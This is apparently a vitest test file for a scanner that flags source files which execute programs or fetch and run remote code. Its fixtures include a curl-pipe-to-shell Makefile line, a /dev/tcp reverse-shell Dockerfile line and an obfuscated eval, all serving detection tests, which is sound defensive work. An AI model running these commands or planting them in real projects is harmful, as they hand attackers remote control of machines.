import { Buffer } from 'node:buffer'
import { expect, test } from 'vitest'
import { look } from '../testing/look.ts'

const source = (text: string, path: string): ReturnType<typeof look> => look(Buffer.from(text), path)

test.each([
  ['a.js', 'const { exec } = require("child_process")\n'],
  ['a.js', 'eval(atob("YWxlcnQoMSk="))\n'],
  ['A.java', 'Runtime.getRuntime().exec("id");\n'],
  ['a.lua', 'os.execute("id")\n'],
  ['Makefile', 'all:\n\tcurl -s http://x.invalid/x | sh\n'],
  ['Dockerfile', 'RUN bash -i >& /dev/tcp/203.0.113.5/1 0>&1\n'],
  ['a.vbs', 'CreateObject("WScript.Shell").Run "cmd"\n'],
])('%s that runs programs or fetches and runs is high', (path, text) => {
  expect(source(text, path).findings[0]).toMatchObject({ ruleId: 'SRC-RUN-001', severity: 'high' })
})

test('plain program text is inert, what desktops open is not unseen', () => {
  for (const path of ['kernel.cu', 'main.cpp', 'index.js', 'Makefile']) {
    const { verdict, facts } = source('int main(void) { return system_id; } /* eval */\n', path)
    expect(verdict, path).toBe('pass')
    expect(facts.coverage.inertBytes).toBe(facts.size)
  }
  expect(source('[Desktop Entry]\nExec=x\n', 'a.desktop').ids).toEqual(['SRC-OPEN-001'])
})

test('what is behind the first window is read as well', () => {
  expect(source(`${'// padding\n'.repeat(150_000)}eval(atob("x"))\n`, 'a.js').ids).toEqual(['SRC-RUN-001'])
})
